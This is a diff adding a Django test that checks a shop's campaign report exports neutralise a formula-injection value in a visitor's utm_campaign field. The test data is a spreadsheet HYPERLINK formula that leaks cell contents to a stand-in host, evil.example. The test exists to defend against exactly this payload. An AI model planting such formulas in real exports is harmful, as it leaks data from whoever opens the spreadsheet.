@@ -21,6 +21,7 @@ from shop.attribution.models import AttributionCredit, DailyEngagement, Touch
 from shop.attribution.rollups import rollups_advance
 from shop.checkout.services import CheckoutLine, ShippingAddress, checkout_complete
 from shop.orders import services as order_services
+from tests.spreadsheets import csv_rows, xlsx_cells
 
 pytestmark = pytest.mark.django_db
 
@@ -396,3 +397,25 @@ def test_dates_out_of_range_answer_a_form_error_on_every_report(client, world, a
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/html")
     assert message in response.content.decode()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Spring sale")'
+
+
+def test_report_exports_keep_a_visitors_campaign_name_from_running_as_a_formula(client, world, admin_user):
+    # given a visitor who arrived with a utm_campaign that is a spreadsheet formula, and bought
+    sku = world["sku"]
+    hostile = touch(world["kettles"], when=at(15), utm_campaign=HYPERLINK)
+    credit(place(sku, key="evil"), revenue="70.00", touch=hostile, utm_campaign=HYPERLINK, placed=at(15))
+    client.force_login(admin_user)
+
+    # when a marketer exports the campaign table as CSV and as XLSX
+    as_csv = csv_rows(client.get(f"{REPORTS}by/campaign/?{RANGE}&export=csv"))
+    as_xlsx = xlsx_cells(client.get(f"{REPORTS}by/campaign/?{RANGE}&export=xlsx"))
+
+    # then the CSV cell starts with an apostrophe, the XLSX cell is text, exactly as typed
+    assert [row[0] for row in as_csv[1:]] == ["spring", "'" + HYPERLINK, "(no campaign)", "Direct / unattributed", "Total"]
+    assert as_xlsx[2][0] == (HYPERLINK, "s")
+    # and figures stay figures: the revenue is a number in both
+    assert as_csv[2][6] == "70.00"
+    assert as_xlsx[2][6] == (70, "n")
